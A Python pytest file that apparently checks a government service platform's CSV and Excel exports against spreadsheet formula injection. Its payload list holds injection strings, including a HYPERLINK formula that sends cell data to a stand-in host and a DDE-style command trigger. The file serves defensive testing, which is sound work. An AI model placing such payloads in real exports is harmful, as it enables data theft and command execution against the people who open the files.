"""Every file the platform hands to a person (CSV, Excel) is written through ``core.tabular``, whose one
guard (``escape_formula``) turns a value a spreadsheet would run as a formula into text. The class is
held three ways: no module writes CSV or Excel by itself; every export route the URL resolver knows is
checked here; each export, fed a malicious value, writes it as inert text."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from pathlib import Path

import pytest
import time_machine
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook

from tests.helpers import at
from tests.ratings.test_ratings import closed_case  # noqa: F401  # shared fixture
from yuexiu.core import tabular

SOURCE = Path(__file__).resolve().parent.parent / "src" / "yuexiu"

# Values that a spreadsheet would run, or that turn into a formula when the cell is edited.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]

# Writers of files that never reach a person, with the reason.
INTERNAL_WRITERS = {
    "policies/engine/sql.py": "the registry CSV handed to DuckDB inside one matching run (machine data)",
}
WRITER = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|openpyxl\.Workbook|from openpyxl import [^\n]*\bWorkbook")


def test_no_module_writes_csv_or_excel_except_through_the_tabular_helper():
    offenders = []
    for path in sorted(SOURCE.rglob("*.py")):
        relative = path.relative_to(SOURCE).as_posix()
        if relative == "core/tabular.py" or relative in INTERNAL_WRITERS:
            continue
        if WRITER.search(path.read_text(encoding="utf-8")):
            offenders.append(relative)
    assert offenders == []


def _routes(patterns: list, prefix: str = "") -> list[tuple[str, str]]:
    found = []
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            found.extend(_routes(pattern.url_patterns, prefix + str(pattern.pattern)))
        elif isinstance(pattern, URLPattern):
            found.append((prefix + str(pattern.pattern), pattern.name or ""))
    return found


# Each export route and the test below that feeds it the payloads.
CHECKED_EXPORTS = {
    "workbench/audit/export.csv": "test_the_audit_export_writes_a_name_typed_at_a_failed_login_as_text",
    "services/export.<str:file_format>": "test_the_catalogue_exports_write_item_names_as_text",
    "api/v1/catalog/export": "test_the_catalogue_exports_write_item_names_as_text",
    "workbench/guide-checks/export.xlsx": "test_the_guide_check_export_writes_item_names_as_text",
    "workbench/ratings/export.xlsx": "test_the_ratings_workbook_writes_officer_names_as_text",
}


def test_every_export_route_is_checked_with_malicious_values():
    exports = {
        route
        for route, name in _routes(get_resolver().url_patterns)
        if "export" in route or "export" in name or route.endswith((".csv", ".xlsx"))
    }
    assert exports == set(CHECKED_EXPORTS)
    tests = set(globals())
    assert set(CHECKED_EXPORTS.values()) <= tests


def _csv_cells(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _xlsx_cells(body: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(body))
    return [
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


def _assert_inert(cells: list[str], payloads: list[str]) -> None:
    """Each payload is in the file, guarded by an apostrophe; no cell is formula-like."""
    for payload in payloads:
        assert "'" + payload in cells, payload
    assert [cell for cell in cells if tabular.escape_formula(cell) != cell] == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_guard_turns_each_formula_trigger_into_text_and_import_reads_it_back(payload):
    assert tabular.escape_formula(payload) == "'" + payload
    assert tabular.strip_formula_guard(tabular.escape_formula(payload)) == payload
    assert tabular.escape_formula("越秀区 = 广州") == "越秀区 = 广州"


@pytest.mark.django_db
def test_the_audit_export_writes_a_name_typed_at_a_failed_login_as_text(client, cast):
    for payload in PAYLOADS:
        client.post("/accounts/login/", {"username": payload, "password": "wrong"})
    client.force_login(cast["auditadmin"])
    response = client.get("/workbench/audit/export.csv", {"action": "auth.login_failed"})
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff时间（北京时间）,账号".encode())
    # the login form strips the edges of the name and folds its width (NFKC), as it stores it
    typed = {unicodedata.normalize("NFKC", payload).strip() for payload in PAYLOADS}
    _assert_inert(_csv_cells(body), sorted(typed))


@pytest.mark.django_db
def test_the_catalogue_exports_write_item_names_as_text(client, food):
    food.name = PAYLOADS[0]
    food.save(update_fields=["name"])
    _assert_inert(_csv_cells(client.get("/services/export.csv").content), [PAYLOADS[0]])
    _assert_inert(_xlsx_cells(client.get("/services/export.xlsx").content), [PAYLOADS[0]])
    _assert_inert(_xlsx_cells(client.get("/api/v1/catalog/export", {"format": "xlsx"}).content), [PAYLOADS[0]])


@pytest.mark.django_db
def test_the_guide_check_export_writes_item_names_as_text(client, catalogue, food):
    from yuexiu.catalog import services as catalog_services

    food.name = PAYLOADS[1]
    food.save(update_fields=["name"])
    catalog_services.run_guide_checks()
    client.force_login(catalogue["editor_scj"])
    cells = _xlsx_cells(client.get("/workbench/guide-checks/export.xlsx").content)
    _assert_inert(cells, [PAYLOADS[1]])


@pytest.mark.django_db
def test_the_ratings_workbook_writes_officer_names_as_text(client, catalogue, closed_case):  # noqa: F811
    from yuexiu.ratings import services as rating_services

    officer = catalogue["approver_scj"]
    officer.full_name = PAYLOADS[0]
    officer.save(update_fields=["full_name"])
    with time_machine.travel(at("2026-03-02T15:00"), tick=False):
        rating_services.rate_case(case=closed_case, channel="qr", level=1, comment="@SUM(1+1)")
    since, until = at("2026-03-01T00:00"), at("2026-04-01T00:00")
    cells = _xlsx_cells(rating_services.statistics_workbook(since=since, until=until))
    _assert_inert(cells, [PAYLOADS[0]])
    client.force_login(catalogue["supervisor_demo"])
    assert client.get("/workbench/ratings/export.xlsx").content[:2] == b"PK"
